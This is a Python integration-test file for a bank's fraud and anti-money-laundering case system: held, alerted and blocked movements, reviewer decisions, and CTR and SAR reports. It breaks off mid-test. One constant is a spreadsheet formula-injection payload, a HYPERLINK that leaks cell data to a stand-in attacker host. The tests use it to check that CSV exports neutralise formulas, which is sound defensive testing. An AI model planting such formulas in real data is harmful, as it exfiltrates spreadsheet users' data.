"""Risk cases end to end: holds in the read models, the admin case queue, reviewers' decisions, CTR and SAR reports.

Money movements are put straight onto bank.ledger.commands with the assessment header the risk agent would
add, so every case here is exactly the one a test asks for, whatever the live rule set says. Decisions go
through the admin API, like a reviewer's, and so through the risk agent to the ledger. Each test works with
customers and accounts of its own: the stack and its read models are shared with other tests.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
import uuid
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any

import asyncpg
import httpx
import pytest

from core import commands as c
from core import events as e
from core.ledger import AccountState, apply, decide
from core.risk.evaluate import ASSESSMENT_HEADER, Assessment, RuleHit
from core.readmodel import PG_SCHEMA
from core.topics import LEDGER_COMMANDS
from infra.producer import create_producer
from schemas.codec import get_codec
from streams.projections.base import EventRecord
from streams.projections.postgres import PostgresProjection
from tests.support.readmodels import pg_dump, wait_caught_up
from api.csv_export import csv_cell
from tests.support import Bank, staff

pytestmark = pytest.mark.usefixtures("stack")

PROBLEM = "application/problem+json"
OUTCOME_TIMEOUT_S = 90.0

VELOCITY = RuleHit(rule_id="velocity-10m", kind="velocity", action="alert", severity="medium", score=40,
                   reason="6 debits within 10m")
STRUCTURING = RuleHit(rule_id="structuring-cash-24h", kind="structuring", action="hold", severity="high", score=70,
                      reason="3 cash movements just under 10000.00 EUR within 24h")
CTR = RuleHit(rule_id="ctr-daily-cash", kind="ctr", action="alert", severity="medium", score=20,
              reason="cash of 10500.00 EUR today")
JURISDICTION = RuleHit(rule_id="high-risk-jurisdiction", kind="high_risk_jurisdiction", action="hold",
                       severity="high", score=70, reason="counterparty in KP")
SANCTIONS = RuleHit(rule_id="sanctions-counterparty", kind="sanctions", action="block", severity="critical",
                    score=100, reason="counterparty matches a sanctioned name (score 97)")
REVIEW = {"comment": "customer confirmed the payment by phone"}   # the reviewer is the caller: the analyst


def assessed(action: str, *hits: RuleHit) -> Assessment:
    return Assessment(score=min(100, sum(h.score for h in hits)), action=action, hits=hits,  # type: ignore[arg-type]
                      rule_set_version="test-1")


def _id(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:12]}"


class Teller:
    """Puts commands on bank.ledger.commands as the risk agent forwards them (keyed by account, with the
    assessment header when given one), and learns their outcomes from the API's command status."""

    def __init__(self, bootstrap: str, bank: Bank) -> None:
        self.bank = bank
        self._producer = create_producer(bootstrap)
        self._codec = get_codec()

    async def start(self) -> None:
        await self._producer.start()

    async def stop(self) -> None:
        await self._producer.stop()

    async def send(self, command: c.Command, risk: Assessment | None = None) -> dict[str, Any]:
        value, headers = self._codec.encode(command)
        if risk is not None:
            headers = [*headers, (ASSESSMENT_HEADER, risk.to_header())]
        await self._producer.send_and_wait(LEDGER_COMMANDS, value, key=command.account_id.encode(), headers=headers)
        return await self.outcome(command.command_id)

    async def outcome(self, command_id: str) -> dict[str, Any]:
        """The command's status once the ledger decided it (held counts: it is on the record)."""
        deadline = time.monotonic() + OUTCOME_TIMEOUT_S
        while True:
            response = await self.bank.http.get(f"/v1/commands/{command_id}")
            if response.status_code == 200 and response.json()["status"] != "pending":
                return response.json()
            assert time.monotonic() < deadline, f"no outcome for command {command_id}: {response.text}"
            await asyncio.sleep(0.1)

    async def open(self, customer: str, currency: str = "EUR") -> str:
        account = _id("acct-risk")
        outcome = await self.send(c.OpenAccount(**_envelope(account), customer_id=customer, currency=currency))
        assert outcome["status"] == "accepted", outcome
        return account

    async def deposit(self, account: str, minor: int, *, currency: str = "EUR", channel: str = "transfer",
                      risk: Assessment | None = None, **fields: Any) -> dict[str, Any]:
        return await self.send(c.Deposit(**_envelope(account), amount=minor, currency=currency, channel=channel,
                                         **fields), risk)

    async def withdraw(self, account: str, minor: int, *, currency: str = "EUR", channel: str = "transfer",
                       risk: Assessment | None = None, **fields: Any) -> dict[str, Any]:
        return await self.send(c.Withdraw(**_envelope(account), amount=minor, currency=currency, channel=channel,
                                          **fields), risk)


def _envelope(account: str) -> dict[str, Any]:
    command_id = str(uuid.uuid4())
    return dict(command_id=command_id, account_id=account, issued_at=datetime.now(UTC), correlation_id=command_id)


Scenario = Callable[[Bank, Teller, Callable[[], Awaitable[None]]], Awaitable[None]]


def run(api_url: str, kafka_bootstrap: str, pg_dsn: str, redis_url: str, mongo_url: str, scenario: Scenario) -> None:
    """Run a scenario with an API client, a teller, and `caught_up()`: wait until every read model has
    reached the end of the log (the teller's commands bypass the API, so no position comes back for them)."""
    async def main() -> None:
        bank = Bank(api_url, role="analyst")   # reviewers: the case queue and the reports
        teller = Teller(kafka_bootstrap, bank)
        await teller.start()

        async def caught_up() -> None:
            await wait_caught_up(kafka_bootstrap, pg_dsn, redis_url, mongo_url)

        try:
            await scenario(bank, teller, caught_up)
        finally:
            await teller.stop()
            await bank.close()

    asyncio.run(main())


@pytest.fixture
def scenario_runner(api_url: str, kafka_bootstrap: str, pg_dsn: str, redis_url: str,
                    mongo_url: str) -> Callable[[Scenario], None]:
    return lambda scenario: run(api_url, kafka_bootstrap, pg_dsn, redis_url, mongo_url, scenario)


async def _ok(response: Awaitable[httpx.Response]) -> dict[str, Any]:
    """A query's JSON; admin queries say they were answered by PostgreSQL, and how fresh it was."""
    got = await response
    assert got.status_code == 200, got.text
    if "/v1/admin/" in str(got.url):
        assert got.headers["Bank-Read-Model"] == "postgres" and "Bank-Read-Position" in got.headers, got.headers
    return got.json()


async def _case(bank: Bank, case_id: str) -> dict[str, Any]:
    return await _ok(bank.get(f"/v1/admin/cases/{case_id}"))


async def _cases(bank: Bank, **filters: Any) -> list[dict[str, Any]]:
    """Every case matching the filters, following the cursor."""
    items, cursor = [], None
    while True:
        page = await _ok(bank.get("/v1/admin/cases", **filters, **({"cursor": cursor} if cursor else {})))
        items += page["items"]
        if (cursor := page["next_cursor"]) is None:
            return items


async def _balances(bank: Bank, account: str, customer: str) -> dict[str, tuple[str, str]]:
    """(balance, available balance) as each read model has it: Redis (the account lookup) and PostgreSQL
    (the customer's accounts)."""
    lookup = await bank.get(f"/v1/accounts/{account}")
    assert lookup.status_code == 200 and lookup.headers["Bank-Read-Model"] == "redis", lookup.headers
    listed = await _ok(bank.get(f"/v1/customers/{customer}/accounts"))
    [row] = [a for a in listed["accounts"] if a["account_id"] == account]
    return {"redis": (lookup.json()["balance"], lookup.json()["available_balance"]),
            "postgres": (row["balance"], row["available_balance"])}


async def _decide(bank: Bank, case_id: str, decision: str, body: dict[str, Any] | None = None,
                  wait: bool = True) -> httpx.Response:
    return bank.seen(await bank.http.post(f"/v1/admin/cases/{case_id}/{decision}", json=body or REVIEW,
                                          params={"wait": "true"} if wait else None))


async def _postings(bank: Bank, account: str) -> list[dict[str, Any]]:
    return (await _ok(bank.get(f"/v1/accounts/{account}/transactions", limit=500)))["items"]


# ---------------------------------------------------------------- holds, alerts and blocks in the read models


def test_a_held_withdrawal_reserves_its_amount_and_is_listed_as_held(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-hold")
        account = await teller.open(customer)
        assert (await teller.deposit(account, 10000))["status"] == "accepted"
        withdrawal = await teller.withdraw(account, 3000, channel="cash", risk=assessed("hold", STRUCTURING, VELOCITY))
        assert withdrawal["status"] == "held"
        case_id = withdrawal["command_id"]
        await caught_up()

        # The balance stays; what can be spent drops by the held amount, in both account read models.
        assert await _balances(bank, account, customer) == {"redis": ("100.00", "70.00"),
                                                            "postgres": ("100.00", "70.00")}
        assert [p["amount"] for p in await _postings(bank, account)] == ["100.00"]   # nothing posted yet
        # A later batch rebuilds the account from what each store kept: the reservation must survive it.
        assert (await teller.deposit(account, 1000))["status"] == "accepted"
        await caught_up()
        assert await _balances(bank, account, customer) == {"redis": ("110.00", "80.00"),
                                                            "postgres": ("110.00", "80.00")}

        listed = await _cases(bank, account_id=account)
        assert [x["case_id"] for x in listed] == [case_id]
        case = await _case(bank, case_id)
        assert case == listed[0]
        assert {k: case[k] for k in ("account_id", "customer_id", "command_type", "amount", "currency", "channel",
                                     "action", "score", "severity", "status", "rule_set_version")} == {
            "account_id": account, "customer_id": customer, "command_type": "Withdraw", "amount": "30.00",
            "currency": "EUR", "channel": "cash", "action": "hold", "score": 100, "severity": "high",
            "status": "held", "rule_set_version": "test-1"}
        assert case["rule_ids"] == ["structuring-cash-24h", "velocity-10m"]
        assert case["kinds"] == ["structuring", "velocity"]
        assert [h["reason"] for h in case["hits"]] == [STRUCTURING.reason, VELOCITY.reason]
        assert case["decided_at"] is None and case["reviewer"] is None
        # The customer's feed shows the hold (they were told), never the rules behind it.
        feed = (await _ok(bank.get(f"/v1/customers/{customer}/timeline")))["items"]
        assert [x["summary"] for x in feed if x["type"] == "FundsHeld"] == ["Withdrawal of 30.00 EUR held for review"]

    scenario_runner(scenario)


def test_an_alert_opens_a_case_and_the_movement_posts(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-alert")
        account = await teller.open(customer)
        deposit = await teller.deposit(account, 1050000, channel="cash", risk=assessed("alert", CTR))
        assert deposit["status"] == "accepted"
        await caught_up()
        case = await _case(bank, deposit["command_id"])
        assert (case["status"], case["action"], case["severity"], case["amount"]) == ("open", "alert", "medium",
                                                                                       "10500.00")
        assert await _balances(bank, account, customer) == {"redis": ("10500.00", "10500.00"),
                                                            "postgres": ("10500.00", "10500.00")}
        [posting] = await _postings(bank, account)
        assert (posting["amount"], posting["channel"], posting["command_id"]) == ("10500.00", "cash",
                                                                                  deposit["command_id"])
        # The flag is in the audit trail, with its hits, but not in the customer's own feed (no tipping-off).
        audit = (await _ok(bank.get("/v1/audit", account_id=account)))["items"]
        [flag] = [x for x in audit if x["type"] == "RiskFlagged"]
        assert (flag["data"]["action"], flag["data"]["hits"][0]["rule_id"]) == ("alert", "ctr-daily-cash")
        feed = (await _ok(bank.get(f"/v1/customers/{customer}/timeline")))["items"]
        assert {x["type"] for x in feed} == {"AccountOpened", "FundsDeposited"}

    scenario_runner(scenario)


def test_a_blocked_movement_is_rejected_and_its_case_cannot_be_decided(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-block")
        account = await teller.open(customer)
        await teller.deposit(account, 5000)
        blocked = await teller.withdraw(account, 1000, risk=assessed("block", SANCTIONS, JURISDICTION),
                                        counterparty_name="Kim Jong Example", counterparty_country="KP")
        assert (blocked["status"], blocked["reason"]) == ("rejected", "blocked_by_risk")
        await caught_up()
        case = await _case(bank, blocked["command_id"])
        assert (case["status"], case["severity"], case["rule_ids"]) == (
            "blocked", "critical", ["sanctions-counterparty", "high-risk-jurisdiction"])
        assert (case["counterparty_name"], case["counterparty_country"]) == ("Kim Jong Example", "KP")
        assert await _balances(bank, account, customer) == {"redis": ("50.00", "50.00"),
                                                            "postgres": ("50.00", "50.00")}
        for decision in ("approve", "reject"):
            response = await _decide(bank, case["case_id"], decision)
            assert response.status_code == 409, response.text
            assert response.headers["content-type"] == PROBLEM and response.json()["reason"] == "case_blocked"

    scenario_runner(scenario)


# ---------------------------------------------------------------- decisions (through the risk agent)


def test_approving_a_hold_posts_the_movement_once(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-approve")
        account = await teller.open(customer)
        await teller.deposit(account, 10000)
        case_id = (await teller.withdraw(account, 3000, risk=assessed("hold", STRUCTURING)))["command_id"]
        await caught_up()

        approved = await _decide(bank, case_id, "approve")
        assert approved.status_code == 200, approved.text
        body = approved.json()
        assert (body["case_id"], body["decision"], body["status"]) == (case_id, "approve", "accepted")
        assert body["movement"]["status"] == "accepted"
        assert approved.headers["Bank-Position"] == body["position"]
        # Read with the decision's position (Bank.get passes it): it covers the posting that followed.
        withdrawal = [p for p in await _postings(bank, account) if p["command_id"] == case_id]
        assert [p["amount"] for p in withdrawal] == ["-30.00"]
        await caught_up()
        assert await _balances(bank, account, customer) == {"redis": ("70.00", "70.00"),
                                                            "postgres": ("70.00", "70.00")}
        case = await _case(bank, case_id)
        assert (case["status"], case["reviewer"], case["comment"]) == ("approved", staff("analyst").user_id,
                                                                       REVIEW["comment"])
        assert case["decided_at"] is not None and case["decision_event_id"]
        assert (await teller.outcome(case_id))["status"] == "accepted"

        # The same decision again is a retry: the same outcome, and nothing posts twice.
        again = await _decide(bank, case_id, "approve")
        assert again.status_code == 200 and again.json()["command_id"] == body["command_id"], again.text
        # Another decision on a decided case is a conflict.
        other = await _decide(bank, case_id, "reject")
        assert other.status_code == 409 and other.json()["reason"] == "case_already_decided", other.text
        await caught_up()
        assert [p["amount"] for p in await _postings(bank, account)] == ["-30.00", "100.00"]
        assert (await _case(bank, case_id))["status"] == "approved"

    scenario_runner(scenario)


def test_rejecting_a_hold_restores_the_available_balance(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-reject")
        account = await teller.open(customer)
        await teller.deposit(account, 5000)
        case_id = (await teller.withdraw(account, 2000, risk=assessed("hold", JURISDICTION)))["command_id"]
        await caught_up()
        assert await _balances(bank, account, customer) == {"redis": ("50.00", "30.00"),
                                                            "postgres": ("50.00", "30.00")}

        rejected = await _decide(bank, case_id, "reject", {"comment": "mule account"})
        assert rejected.status_code == 200, rejected.text
        movement = rejected.json()["movement"]
        assert (movement["status"], movement["reason"]) == ("rejected", "rejected_by_review")
        await caught_up()
        assert await _balances(bank, account, customer) == {"redis": ("50.00", "50.00"),
                                                            "postgres": ("50.00", "50.00")}
        assert [p["amount"] for p in await _postings(bank, account)] == ["50.00"]
        case = await _case(bank, case_id)
        assert (case["status"], case["reviewer"], case["comment"]) == ("rejected", staff("analyst").user_id,
                                                                       "mule account")
        approve = await _decide(bank, case_id, "approve")
        assert approve.status_code == 409 and approve.json()["reason"] == "case_already_decided", approve.text

    scenario_runner(scenario)


def test_closing_an_alert_records_the_decision_and_moves_no_money(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-close")
        account = await teller.open(customer)
        case_id = (await teller.deposit(account, 2500, risk=assessed("alert", VELOCITY)))["command_id"]
        await caught_up()
        assert (await _case(bank, case_id))["status"] == "open"
        approved = await _decide(bank, case_id, "approve")
        assert approved.status_code == 200, approved.text
        assert approved.json()["movement"] is None
        await caught_up()
        case = await _case(bank, case_id)
        assert (case["status"], case["reviewer"]) == ("approved", staff("analyst").user_id)
        assert await _balances(bank, account, customer) == {"redis": ("25.00", "25.00"),
                                                            "postgres": ("25.00", "25.00")}

    scenario_runner(scenario)


def test_the_review_backlog_gauge_follows_open_and_held_cases(stack: Any, scenario_runner: Any, pg_dsn: str) -> None:
    metrics_url = stack.urls()["projector-1"] + "/metrics"

    async def backlog_in_pg() -> int:
        conn = await asyncpg.connect(pg_dsn)
        try:
            return await conn.fetchval(f"SELECT count(*) FROM {PG_SCHEMA}.cases WHERE status IN ('open', 'held')")
        finally:
            await conn.close()

    async def gauge_reaches(expected: int) -> None:
        """The gauge is set right after the batch's transaction: wait for it, within a bound."""
        deadline = time.monotonic() + OUTCOME_TIMEOUT_S
        while True:
            async with httpx.AsyncClient(timeout=10) as http:
                page = (await http.get(metrics_url)).text
            values = [float(line.split()[-1]) for line in page.splitlines()
                      if line.startswith("bank_fraud_review_backlog_cases ")]
            if values == [expected]:
                return
            assert time.monotonic() < deadline, f"backlog gauge {values}, cases table {expected}"
            await asyncio.sleep(0.2)

    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        account = await teller.open(_id("cust-backlog"))
        await teller.deposit(account, 10000)
        case_id = (await teller.withdraw(account, 1000, risk=assessed("hold", STRUCTURING)))["command_id"]
        await caught_up()
        held = await backlog_in_pg()
        assert held >= 1
        await gauge_reaches(held)
        assert (await _decide(bank, case_id, "reject")).status_code == 200
        await caught_up()
        assert await backlog_in_pg() == held - 1
        await gauge_reaches(held - 1)

    scenario_runner(scenario)


# ---------------------------------------------------------------- errors, filters and paging


def test_unknown_cases_and_invalid_reviews_are_problems(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        unknown = str(uuid.uuid4())
        for response in (await bank.http.get(f"/v1/admin/cases/{unknown}"), await _decide(bank, unknown, "approve"),
                         await _decide(bank, unknown, "reject")):
            assert response.status_code == 404, response.text
            assert response.headers["content-type"] == PROBLEM and response.json()["reason"] == "unknown_case"
        # No reviewer field: who decides is the caller, not something a body could claim.
        for body in ({"comment": None}, {"comment": ""}, {"comment": "   "}, {"comment": "x" * 2001},
                     {"reviewer": "someone.else", "comment": "ok"}, {"comment": "ok", "extra": 1}):
            response = await _decide(bank, unknown, "approve", body)
            assert response.status_code == 422, (body, response.text)
            assert response.headers["content-type"] == PROBLEM
        for params, status in (({"cursor": "%%%"}, 400), ({"status": "lost"}, 422), ({"severity": "huge"}, 422),
                               ({"limit": 0}, 422)):
            response = await bank.http.get("/v1/admin/cases", params=params)
            assert response.status_code == status, (params, response.text)
            assert response.headers["content-type"] == PROBLEM

    scenario_runner(scenario)


def test_the_case_queue_filters_and_pages_newest_first(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-queue")
        a, b = await teller.open(customer), await teller.open(customer)
        await teller.deposit(a, 100000)
        await teller.deposit(b, 100000)
        made = [
            (await teller.withdraw(a, 100, risk=assessed("alert", VELOCITY)))["command_id"],
            (await teller.withdraw(a, 200, risk=assessed("alert", VELOCITY, CTR)))["command_id"],
            (await teller.withdraw(a, 300, risk=assessed("hold", STRUCTURING)))["command_id"],
            (await teller.withdraw(b, 400, risk=assessed("block", SANCTIONS)))["command_id"],
            (await teller.deposit(b, 500, risk=assessed("alert", JURISDICTION)))["command_id"],
        ]
        await caught_up()

        everything = await _cases(bank, customer_id=customer, limit=50)
        assert sorted(x["case_id"] for x in everything) == sorted(made)
        keys = [(x["created_at"], x["case_id"]) for x in everything]
        assert keys == sorted(keys, reverse=True)
        assert await _cases(bank, customer_id=customer, limit=2) == everything   # pages of 2, nothing skipped

        async def ids(**filters: Any) -> set[str]:
            return {x["case_id"] for x in await _cases(bank, customer_id=customer, **filters)}

        assert await ids(status="held") == {made[2]}
        assert await ids(status=["open", "blocked"]) == {made[0], made[1], made[3], made[4]}
        assert await ids(severity="critical") == {made[3]}
        assert await ids(severity=["medium"]) == {made[0], made[1]}
        assert await ids(severity="high") == {made[2], made[4]}
        assert await ids(rule="velocity-10m") == {made[0], made[1]}
        assert await ids(rule="ctr-daily-cash") == {made[1]}
        assert await ids(rule="no-such-rule") == set()
        assert await ids(account_id=b) == {made[3], made[4]}
        assert await ids(account_id=b, status="open") == {made[4]}
        assert {x["case_id"] for x in await _cases(bank, account_id=a)} == {made[0], made[1], made[2]}

    scenario_runner(scenario)


# ---------------------------------------------------------------- reports


def _csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["Bank-Read-Model"] == "postgres"
    return list(csv.DictReader(io.StringIO(response.text)))


def _as_csv(item: dict[str, Any]) -> dict[str, str]:
    """A JSON report line as its CSV row: lists joined with ';', null as empty, numbers as text, and text a
    spreadsheet would take for a formula neutralised (tests below check that one against literal cells)."""
    return {k: str(csv_cell(v)) for k, v in item.items()}


async def _cash_with_formulas(api_url: str, bank: Bank) -> tuple[str, dict[str, Any]]:
    """Through the API, as a teller: cash of 10,000.00 (a CTR alert, so a SAR candidate too) for a customer id and
    from a counterparty a spreadsheet would take for formulas. The customer id, and the deposit's outcome."""
    customer = f"-2-3-cmd-{uuid.uuid4().hex[:8]}"      # an identifier may begin with '-': "=-2-3-..." to Excel
    teller = Bank(api_url)
    try:
        account = await teller.open(customer=customer)
        response = await teller.post(f"/v1/accounts/{account}/deposits", {
            "amount": "10000.00", "currency": "EUR", "counterparty_name": FORMULA_NAME})
        assert response.status_code == 200, response.text
        bank.position = teller.position
        return customer, response.json()
    finally:
        await teller.close()


FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'


def test_the_ctr_csv_neutralises_formulas(scenario_runner: Any, api_url: str) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer, deposit = await _cash_with_formulas(api_url, bank)
        day = datetime.fromisoformat(deposit["events"][-1]["occurred_at"]).astimezone(UTC).date()
        rows = _csv_rows(await bank.get("/v1/admin/reports/ctr.csv", date=day.isoformat()))
        [row] = [r for r in rows if r["customer_id"].endswith(customer)]
        assert (row["customer_id"], row["total"]) == ("'" + customer, "10000.00"), row

    scenario_runner(scenario)


def test_the_sar_csv_neutralises_formulas(scenario_runner: Any, api_url: str) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer, deposit = await _cash_with_formulas(api_url, bank)
        now = datetime.now(UTC)
        period = {"from": (now - timedelta(days=1)).isoformat(), "to": (now + timedelta(days=1)).isoformat()}
        rows = _csv_rows(await bank.get("/v1/admin/reports/sar-candidates.csv", **period))
        [row] = [r for r in rows if r["case_id"] == deposit["command_id"]]
        assert (row["customer_id"], row["counterparty_name"]) == ("'" + customer, "'" + FORMULA_NAME), row
        assert row["amount"] == "10000.00" and "ctr" in row["aml_kinds"], row

    scenario_runner(scenario)


def test_the_currency_transaction_report_adds_up_a_customers_cash_across_accounts(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        big, small = _id("cust-ctr"), _id("cust-ctr")
        a, b, c_ = await teller.open(big), await teller.open(big), await teller.open(small)
        await teller.deposit(a, 600000, channel="cash")           # 6000.00
        await teller.deposit(b, 450000, channel="cash")           # 4500.00: 10500.00 in cash today
        await teller.deposit(a, 2000000)                          # 20000.00 by transfer: not cash, not counted
        await teller.withdraw(a, 50000, channel="cash")           # 500.00 out: under the threshold
        await teller.deposit(c_, 999999, channel="cash")          # 9999.99: under the threshold
        await caught_up()
        # The report's day is the postings' UTC day, as the ledger stamped them.
        days = {datetime.fromisoformat(p["occurred_at"]).astimezone(UTC).date()
                for account in (a, b, c_) for p in await _postings(bank, account) if p["channel"] == "cash"}
        if len(days) > 1:
            pytest.skip("the postings straddle midnight UTC")
        [day] = days

        report = await _ok(bank.get("/v1/admin/reports/ctr", date=day.isoformat()))
        assert (report["date"], report["threshold"], report["currency"]) == (day.isoformat(), "10000", None)
        mine = [x for x in report["items"] if x["customer_id"] in (big, small)]
        assert mine == [{"customer_id": big, "currency": "EUR", "direction": "in", "total": "10500.00", "count": 2,
                         "account_ids": sorted([a, b])}]
        assert all(x["currency"] != "USD" for x in (await _ok(bank.get(
            "/v1/admin/reports/ctr", date=day.isoformat(), currency="USD")))["items"])
        only_eur = await _ok(bank.get("/v1/admin/reports/ctr", date=day.isoformat(), currency="EUR"))
        assert [x for x in only_eur["items"] if x["customer_id"] == big] == mine
        yesterday = await _ok(bank.get("/v1/admin/reports/ctr", date=(day - timedelta(days=1)).isoformat()))
        assert [x for x in yesterday["items"] if x["customer_id"] == big] == []

        rows = _csv_rows(await bank.get("/v1/admin/reports/ctr.csv", date=day.isoformat()))
        assert rows == [_as_csv(x) for x in report["items"]]
        assert [r for r in rows if r["customer_id"] == big][0]["account_ids"] == ";".join(sorted([a, b]))
        for params in ({"date": "2026-13-01"}, {}, {"date": day.isoformat(), "currency": "XXX"},
                       {"date": day.isoformat(), "currency": "eur"}):
            response = await bank.http.get("/v1/admin/reports/ctr", params=params)
            assert response.status_code == 422, (params, response.text)

    scenario_runner(scenario)


def test_sar_candidates_are_the_cases_with_money_laundering_hits(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        customer = _id("cust-sar")
        account = await teller.open(customer)
        await teller.deposit(account, 100000)
        structuring = (await teller.withdraw(account, 9500, channel="cash",
                                             risk=assessed("hold", STRUCTURING, VELOCITY)))["command_id"]
        fraud_only = (await teller.withdraw(account, 1000, risk=assessed("alert", VELOCITY)))["command_id"]
        sanctioned = (await teller.withdraw(account, 2000, risk=assessed("block", SANCTIONS)))["command_id"]
        cash = (await teller.deposit(account, 3000, channel="cash", risk=assessed("alert", CTR)))["command_id"]
        await caught_up()
        now = datetime.now(UTC)
        period = {"from": (now - timedelta(days=1)).isoformat(), "to": (now + timedelta(days=1)).isoformat()}

        report = await _ok(bank.get("/v1/admin/reports/sar-candidates", **period))
        mine = [x for x in report["items"] if x["customer_id"] == customer]
        assert {x["case_id"] for x in mine} == {structuring, sanctioned, cash}
        assert fraud_only not in {x["case_id"] for x in report["items"]}
        by_id = {x["case_id"]: x for x in mine}
        assert (by_id[structuring]["aml_kinds"], by_id[structuring]["rule_ids"]) == (
            ["structuring"], ["structuring-cash-24h", "velocity-10m"])
        assert (by_id[structuring]["status"], by_id[structuring]["amount"], by_id[structuring]["channel"]) == (
            "held", "95.00", "cash")
        assert (by_id[sanctioned]["status"], by_id[sanctioned]["score"]) == ("blocked", 100)
        assert by_id[cash]["aml_kinds"] == ["ctr"] and by_id[cash]["status"] == "open"
        created = [(x["created_at"], x["case_id"]) for x in report["items"]]
        assert created == sorted(created)   # a report reads oldest first

        rows = _csv_rows(await bank.get("/v1/admin/reports/sar-candidates.csv", **period))
        assert rows == [_as_csv(x) for x in report["items"]]

        before = {"from": (now - timedelta(days=3)).date().isoformat(), "to": (now - timedelta(days=2)).isoformat()}
        earlier = await _ok(bank.get("/v1/admin/reports/sar-candidates", **before))
        assert all(x["customer_id"] != customer for x in earlier["items"])
        for params in ({"from": period["to"], "to": period["from"]}, {"from": period["from"]}, {"to": "tomorrow"}):
            response = await bank.http.get("/v1/admin/reports/sar-candidates", params=params)
            assert response.status_code == 422 and response.headers["content-type"] == PROBLEM, (params,
                                                                                                   response.text)

    scenario_runner(scenario)


def test_a_day_without_cash_has_an_empty_ctr_report(scenario_runner: Any) -> None:
    async def scenario(bank: Bank, teller: Teller, caught_up: Callable[[], Awaitable[None]]) -> None:
        day = date(2001, 1, 1)
        report = await _ok(bank.get("/v1/admin/reports/ctr", date=day.isoformat()))
        assert report == {"date": "2001-01-01", "currency": None, "threshold": "10000", "items": []}
        assert _csv_rows(await bank.get("/v1/admin/reports/ctr.csv", date=day.isoformat())) == []

    scenario_runner(scenario)


# ---------------------------------------------------------------- the PostgreSQL projection on its own


def _ledger_history(account: str) -> list[e.Event]:
    """What the ledger writes for: open, deposit 100.00, a held withdrawal of 30.00, an alerted deposit of
    5.00, a blocked withdrawal, the hold approved (and its posting), a decision on the blocked case."""
    now = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
    state: AccountState | None = None
    events: list[e.Event] = []

    def run(command: type[c.Command], risk: Assessment | None = None, **fields: Any) -> str:
        nonlocal state
        command_id = str(uuid.uuid4())
        produced = decide(state, command(command_id=command_id, account_id=account, issued_at=now,
                                         correlation_id=command_id, **fields), now, risk)
        for event in produced:
            state = apply(state, event)
        events.extend(produced)
        return command_id

    run(c.OpenAccount, customer_id="cust-pg", currency="EUR")
    run(c.Deposit, amount=10000, currency="EUR")
    held = run(c.Withdraw, assessed("hold", STRUCTURING), amount=3000, currency="EUR", channel="cash")
    run(c.Deposit, assessed("alert", CTR, VELOCITY), amount=500, currency="EUR", channel="cash")
    blocked = run(c.Withdraw, assessed("block", SANCTIONS), amount=100, currency="EUR")
    run(c.ReviewCase, case_id=held, decision="approve", reviewer="ann", comment="fine")
    run(c.ReviewCase, case_id=blocked, decision="approve", reviewer="bob", comment="too late")
    return events


def test_the_postgres_projection_folds_cases_once_and_rebuilds_them_the_same(pg_dsn: str) -> None:
    async def scenario() -> None:
        account = _id("acct-pg")
        events = _ledger_history(account)
        codec = get_codec()
        records = [EventRecord.decode(0, offset, *codec.encode(event)) for offset, event in enumerate(events)]
        split = next(i for i, ev in enumerate(events) if isinstance(ev, e.FundsHeld)) + 1
        schemas = [f"rm_risk_{uuid.uuid4().hex[:8]}" for _ in range(2)]
        conn = await asyncpg.connect(pg_dsn)
        stores = [PostgresProjection(pg_dsn, schema) for schema in schemas]
        try:
            for schema, store in zip(schemas, stores, strict=True):
                await conn.execute("SELECT bank_create_readmodel($1)", schema)
                await store.open()
            one, other = stores
            # In two batches: after the first, the hold reserves its amount.
            assert await one.apply(records[:split], {0: 0}, {0: split}) == {0: split}
            row = await conn.fetchrow(f"SELECT * FROM {schemas[0]}.accounts")
            assert (row["balance"], row["available_balance"]) == (10000, 7000)
            held = events[split - 1]
            assert list(json.loads(row["holds"])) == [held.command_id]
            assert await conn.fetchval(f"SELECT status FROM {schemas[0]}.cases") == "held"
            await one.apply(records[split:], {0: split}, {0: len(records)})
            # In one batch, where a case is flagged and decided together: the same rows.
            await other.apply(records, {0: 0}, {0: len(records)})
            first = await pg_dump(pg_dsn, schemas[0])
            assert first == await pg_dump(pg_dsn, schemas[1])
            # Every event once more (a redelivery): nothing changes.
            await one.reapply(records)
            assert await pg_dump(pg_dsn, schemas[0]) == first

            cases = {r["command_type"] + " " + r["action"]: r for r in
                     await conn.fetch(f"SELECT * FROM {schemas[0]}.cases")}
            assert {k: (r["status"], r["reviewer"], r["severity"]) for k, r in cases.items()} == {
                "Withdraw hold": ("approved", "ann", "high"), "Deposit alert": ("open", None, "medium"),
                "Withdraw block": ("blocked", None, "critical")}
